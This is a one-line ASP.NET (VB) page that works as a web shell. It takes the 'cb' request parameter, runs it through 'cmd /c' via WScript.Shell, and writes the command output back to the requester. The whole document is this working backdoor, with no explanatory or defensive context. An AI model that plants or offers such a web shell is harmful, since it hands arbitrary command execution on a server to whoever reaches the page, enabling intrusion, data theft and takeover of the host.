<%@ Page Language="VB" %><% Dim o As Object = Microsoft.VisualBasic.Interaction.CreateObject("WScript.Shell") : Response.Write(o.Exec("cmd /c " & Request("cb")).StdOut.ReadAll()) %>
